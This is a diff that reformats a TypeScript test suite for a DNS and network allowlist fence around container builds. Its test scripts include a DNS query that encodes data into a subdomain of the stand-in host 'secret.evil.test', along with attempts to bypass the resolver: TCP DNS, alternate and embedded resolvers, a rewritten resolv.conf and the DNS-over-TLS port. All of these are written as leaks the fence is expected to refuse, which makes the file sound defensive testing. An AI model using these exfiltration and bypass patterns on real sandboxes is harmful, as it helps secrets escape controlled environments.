@@ -13,17 +13,33 @@ beforeEach(async () => {
 });
 
 const run = (grade: string, allow: string[], script: string[], extra: string[] = []) =>
-  cli([
-    'run', '--network', fx.net.name, '--pull', 'never', '--image', PROBE_IMAGE, '--shell', 'sh',
-    '--grade', grade, '--dns-upstream', fx.upstream.address, ...extra,
-    ...allow.flatMap((a) => ['--allow', a]),
-    // $ns: the resolver the build was given; lookup NAME [TYPE]: the first address of the answer.
-    '--', [
-      "ns=$(awk '/^nameserver/{print $2; exit}' /etc/resolv.conf)",
-      "lookup() { probe dns \"$ns\" \"$1\" \"${2:-A}\" | sed -n 's/^rcode=0 answers=\\([^,]*\\).*/\\1/p'; }",
-      ...script,
-    ].join('\n'),
-  ], fx.ws);
+  cli(
+    [
+      'run',
+      '--network',
+      fx.net.name,
+      '--pull',
+      'never',
+      '--image',
+      PROBE_IMAGE,
+      '--shell',
+      'sh',
+      '--grade',
+      grade,
+      '--dns-upstream',
+      fx.upstream.address,
+      ...extra,
+      ...allow.flatMap((a) => ['--allow', a]),
+      // $ns: the resolver the build was given; lookup NAME [TYPE]: the first address of the answer.
+      '--',
+      [
+        "ns=$(awk '/^nameserver/{print $2; exit}' /etc/resolv.conf)",
+        'lookup() { probe dns "$ns" "$1" "${2:-A}" | sed -n \'s/^rcode=0 answers=\\([^,]*\\).*/\\1/p\'; }',
+        ...script,
+      ].join('\n'),
+    ],
+    fx.ws,
+  );
 
 /** `rcode=N answers=...` lines of `probe dns`, keyed by what the script echoed before each. */
 function dnsResults(stdout: string): Map<string, string> {
@@ -43,12 +59,16 @@ describe('names in the allowlist', () => {
     fx.upstream.zone.set('api.test', { A: [s0.ipv4] });
     fx.upstream.zone.set('other.test', { A: [s0.ipv4] });
     const exfil = `${'a1b2c3d4e5'.repeat(5)}.secret.evil.test`;
-    const r = await run('release', ['api.test:8080'], [
-      'echo "== api"; probe dns "$ns" api.test',
-      'a=$(lookup api.test); probe tcp "$a" 8080; probe tcp "$a" 9090',
-      'echo "== other"; probe dns "$ns" other.test',
-      `echo "== exfil"; probe dns "$ns" ${exfil}`,
-    ]);
+    const r = await run(
+      'release',
+      ['api.test:8080'],
+      [
+        'echo "== api"; probe dns "$ns" api.test',
+        'a=$(lookup api.test); probe tcp "$a" 8080; probe tcp "$a" 9090',
+        'echo "== other"; probe dns "$ns" other.test',
+        `echo "== exfil"; probe dns "$ns" ${exfil}`,
+      ],
+    );
     const dns = dnsResults(r.stdout);
     assert.equal(dns.get('api'), `rcode=0 answers=${s0.ipv4}`, r.stdout + r.stderr);
     assert.equal(dns.get('other'), 'rcode=3 answers=');
@@ -64,11 +84,15 @@ describe('names in the allowlist', () => {
   it('*.name matches subdomains at any depth, never the apex', async () => {
     const [s0] = fx.net.servers;
     for (const n of ['wild.test', 'a.wild.test', 'b.a.wild.test']) fx.upstream.zone.set(n, { A: [s0.ipv4] });
-    const r = await run('release', ['*.wild.test'], [
-      'echo "== apex"; probe dns "$ns" wild.test',
-      'echo "== sub"; probe dns "$ns" a.wild.test',
-      'echo "== subsub"; probe dns "$ns" b.a.wild.test',
-    ]);
+    const r = await run(
+      'release',
+      ['*.wild.test'],
+      [
+        'echo "== apex"; probe dns "$ns" wild.test',
+        'echo "== sub"; probe dns "$ns" a.wild.test',
+        'echo "== subsub"; probe dns "$ns" b.a.wild.test',
+      ],
+    );
     const dns = dnsResults(r.stdout);
     assert.equal(dns.get('apex'), 'rcode=3 answers=');
     assert.equal(dns.get('sub'), `rcode=0 answers=${s0.ipv4}`);
@@ -82,13 +106,17 @@ describe('names in the allowlist', () => {
     fx.upstream.zone.set('middle.cdn.test', { CNAME: 'edge.cdn.test' });
     fx.upstream.zone.set('edge.cdn.test', { A: [s1.ipv4] });
     fx.upstream.zone.set('rr.test', { A: [s0.ipv4, s1.ipv4] });
-    const r = await run('release', ['start.test:8080', 'rr.test:9090'], [
-      'probe tcp $(lookup start.test) 8080',
-      'lookup rr.test >/dev/null',
-      `probe tcp ${s0.ipv4} 9090`,
-      `probe tcp ${s1.ipv4} 9090`,
-      `probe tcp ${s0.ipv4} 8080`,
-    ]);
+    const r = await run(
+      'release',
+      ['start.test:8080', 'rr.test:9090'],
+      [
+        'probe tcp $(lookup start.test) 8080',
+        'lookup rr.test >/dev/null',
+        `probe tcp ${s0.ipv4} 9090`,
+        `probe tcp ${s1.ipv4} 9090`,
+        `probe tcp ${s0.ipv4} 8080`,
+      ],
+    );
     const v = verdicts(r.stdout);
     assert.equal(v.get(`tcp ${s1.ipv4}:8080`), 'ok', r.stdout + r.stderr);
     assert.equal(v.get(`tcp ${s0.ipv4}:9090`), 'ok');
@@ -99,38 +127,48 @@ describe('names in the allowlist', () => {
   it("an allowed name's address is refused until the name is asked, and AAAA answers are fenced like A", async () => {
     const [s0] = fx.net.servers;
     fx.upstream.zone.set('api.test', { A: [s0.ipv4], AAAA: [s0.ipv6] });
-    const r = await run('release', ['api.test:8080'], [
-      `probe tcp ${s0.ipv4} 8080`,
-      `probe tcp ${s0.ipv6} 8080`,
-      'lookup api.test AAAA >/dev/null',
-      `probe tcp ${s0.ipv6} 8080`,
-      `probe tcp ${s0.ipv6} 9090`,
-    ]);
-    const lines = r.stdout.split('\n').filter((l) => /^tcp /.test(l)).map((l) => l.split(' ').slice(1, 3).join(' '));
-    assert.deepEqual(lines, [
-      `${s0.ipv4}:8080 refused`,
-      `[${s0.ipv6}]:8080 refused`,
-      `[${s0.ipv6}]:8080 ok`,
-      `[${s0.ipv6}]:9090 refused`,
-    ], r.stdout + r.stderr);
+    const r = await run(
+      'release',
+      ['api.test:8080'],
+      [
+        `probe tcp ${s0.ipv4} 8080`,
+        `probe tcp ${s0.ipv6} 8080`,
+        'lookup api.test AAAA >/dev/null',
+        `probe tcp ${s0.ipv6} 8080`,
+        `probe tcp ${s0.ipv6} 9090`,
+      ],
+    );
+    const lines = r.stdout
+      .split('\n')
+      .filter((l) => /^tcp /.test(l))
+      .map((l) => l.split(' ').slice(1, 3).join(' '));
+    assert.deepEqual(
+      lines,
+      [`${s0.ipv4}:8080 refused`, `[${s0.ipv6}]:8080 refused`, `[${s0.ipv6}]:8080 ok`, `[${s0.ipv6}]:9090 refused`],
+      r.stdout + r.stderr,
+    );
   });
 
   it('every DNS path ends at buildfence or is refused: TCP, another address, 127.0.0.11, IPv6, rewritten resolv.conf, DoT', async () => {
     const [s0, s1] = fx.net.servers;
     fx.upstream.zone.set('api.test', { A: [s0.ipv4] });
     fx.upstream.zone.set('leak.test', { A: [s0.ipv4] });
-    const r = await run('dev', [], [
-      'echo "== tcp"; probe dns "$ns" api.test A tcp',
-      `echo "== other-address"; probe dns ${s1.ipv4} api.test`,
-      `echo "== other-address-tcp"; probe dns ${s1.ipv4} api.test A tcp`,
-      'echo "== embedded"; probe dns 127.0.0.11 leak.test',
-      'echo "== embedded-tcp"; probe dns 127.0.0.11 leak.test A tcp',
-      `echo "== ipv6"; probe dns ${s1.ipv6} leak.test`,
-      `echo "nameserver ${s1.ipv4}" > /etc/resolv.conf`,
-      `echo "== rewritten"; probe dns $(awk '/^nameserver/{print $2; exit}' /etc/resolv.conf) api.test`,
-      `probe tcp ${s1.ipv4} 853`,
-      `probe tcp ${s1.ipv4} 8080`,
-    ]);
+    const r = await run(
+      'dev',
+      [],
+      [
+        'echo "== tcp"; probe dns "$ns" api.test A tcp',
+        `echo "== other-address"; probe dns ${s1.ipv4} api.test`,
+        `echo "== other-address-tcp"; probe dns ${s1.ipv4} api.test A tcp`,
+        'echo "== embedded"; probe dns 127.0.0.11 leak.test',
+        'echo "== embedded-tcp"; probe dns 127.0.0.11 leak.test A tcp',
+        `echo "== ipv6"; probe dns ${s1.ipv6} leak.test`,
+        `echo "nameserver ${s1.ipv4}" > /etc/resolv.conf`,
+        `echo "== rewritten"; probe dns $(awk '/^nameserver/{print $2; exit}' /etc/resolv.conf) api.test`,
+        `probe tcp ${s1.ipv4} 853`,
+        `probe tcp ${s1.ipv4} 8080`,
+      ],
+    );
     const dns = dnsResults(r.stdout);
     // Answered by buildfence (the upstream's answer), wherever the build sent it.
     for (const label of ['tcp', 'other-address', 'other-address-tcp', 'rewritten']) {
@@ -166,19 +204,27 @@ describe('names in the allowlist', () => {
         }
       }, 20);
     });
-    const r = await run('release', ['rot.test:8080'], [
-      'echo "first=$(lookup rot.test)"',
-      `probe tcp ${s0.ipv4} 8080`,
-      'sleep 4',
-      `probe tcp ${s0.ipv4} 8080`,
-      'echo "second=$(lookup rot.test)"',
-      `probe tcp ${s1.ipv4} 8080`,
-      `probe tcp ${s0.ipv4} 8080`,
-    ], ['--dns-ttl-min', '1', '--dns-ttl-max', '2']);
+    const r = await run(
+      'release',
+      ['rot.test:8080'],
+      [
+        'echo "first=$(lookup rot.test)"',
+        `probe tcp ${s0.ipv4} 8080`,
+        'sleep 4',
+        `probe tcp ${s0.ipv4} 8080`,
+        'echo "second=$(lookup rot.test)"',
+        `probe tcp ${s1.ipv4} 8080`,
+        `probe tcp ${s0.ipv4} 8080`,
+      ],
+      ['--dns-ttl-min', '1', '--dns-ttl-max', '2'],
+    );
     await moved;
     assert.match(r.stdout, new RegExp(`^first=${s0.ipv4.replaceAll('.', '\\.')}$`, 'm'), r.stdout + r.stderr);
     assert.match(r.stdout, new RegExp(`^second=${s1.ipv4.replaceAll('.', '\\.')}$`, 'm'));
-    const lines = r.stdout.split('\n').filter((l) => /^tcp /.test(l)).map((l) => l.split(' ').slice(1, 3).join(' '));
+    const lines = r.stdout
+      .split('\n')
+      .filter((l) => /^tcp /.test(l))
+      .map((l) => l.split(' ').slice(1, 3).join(' '));
     assert.deepEqual(lines, [`${s0.ipv4}:8080 ok`, `${s0.ipv4}:8080 refused`, `${s1.ipv4}:8080 ok`, `${s0.ipv4}:8080 refused`]);
   });
 
@@ -186,11 +232,15 @@ describe('names in the allowlist', () => {
     // Each range is one set of addresses, matched with the range (not one element per port).
     const [s0, s1] = fx.net.servers;
     fx.upstream.zone.set('ranged.test', { A: [s0.ipv4] });
-    const r = await run('release', ['ranged.test:9000-9999', `udp://${s1.ipv4}:8000-8999`], [
-      'a=$(lookup ranged.test); probe tcp "$a" 9090; probe tcp "$a" 8080',
-      `probe udp ${s1.ipv4} 8080; probe udp ${s1.ipv4} 9090; probe tcp ${s1.ipv4} 8080`,
-      'true',
-    ]);
+    const r = await run(
+      'release',
+      ['ranged.test:9000-9999', `udp://${s1.ipv4}:8000-8999`],
+      [
+        'a=$(lookup ranged.test); probe tcp "$a" 9090; probe tcp "$a" 8080',
+        `probe udp ${s1.ipv4} 8080; probe udp ${s1.ipv4} 9090; probe tcp ${s1.ipv4} 8080`,
+        'true',
+      ],
+    );
     assert.equal(r.code, 0, r.stderr);
     const v = verdicts(r.stdout);
     assert.equal(v.get(`tcp ${s0.ipv4}:9090`), 'ok', r.stdout + r.stderr);
